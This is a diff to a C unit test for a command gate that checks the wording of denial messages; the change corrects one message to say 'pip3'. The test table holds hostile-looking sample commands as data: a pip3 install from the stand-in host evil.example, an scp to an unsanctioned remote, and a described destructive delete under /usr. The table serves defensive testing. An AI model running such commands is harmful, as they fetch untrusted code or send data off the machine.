@@ -223,7 +223,7 @@ static void test_wording(void **state)
 			"python3 deletes, with everything below, /usr/x: denied for destroying data that is not scratch" },
 		{ "frobnicate -x", "the program frobnicate is not known to the gate" },
 		{ "ls --frobnicate", "option --frobnicate of ls is not known to the gate" },
-		{ "pip3 frobnicate", "pip frobnicate is not known to the gate" },
+		{ "pip3 frobnicate", "pip3 frobnicate is not known to the gate" },
 		{ "scp README.md host.example:/srv",
 			"scp sends data to host.example:/srv, which is neither this machine nor in sanctionedRemotes" },
 		{ "pip3 install --index-url https://evil.example/ x", "pip3 install installs, from outside the official "
